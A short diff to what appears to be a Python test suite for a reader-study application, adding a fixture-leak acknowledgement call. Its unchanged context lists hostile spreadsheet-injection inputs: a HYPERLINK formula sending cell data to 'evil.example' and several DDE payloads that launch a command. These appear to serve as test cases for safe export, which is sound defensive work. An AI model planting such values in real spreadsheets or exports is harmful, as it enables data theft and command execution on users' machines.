@@ -17,7 +17,7 @@ from studies.export import (
 from studies.ingest import create_study
 from studies.readers import invite, reader_for_token
 from studies.session import next_case, submit
-from study_fixtures import write_images, write_manifest
+from study_fixtures import acknowledge_fixture_leak, write_images, write_manifest
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 HOSTILE_CASES = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -56,6 +56,7 @@ def hostile(tmp_path_factory):
     db = tmp / "s.db"
     create_study(db, "=study()", manifest=manifest, size=32,
                  options=StudyOptions(tasks=("turing", "alignment"), attention_checks=1))
+    acknowledge_fixture_leak(db, "=study()")
     for name in HOSTILE_READERS:
         ref = reader_for_token(db, invite(db, "=study()", name))
         while (view := next_case(db, ref.reader_id)) is not None:
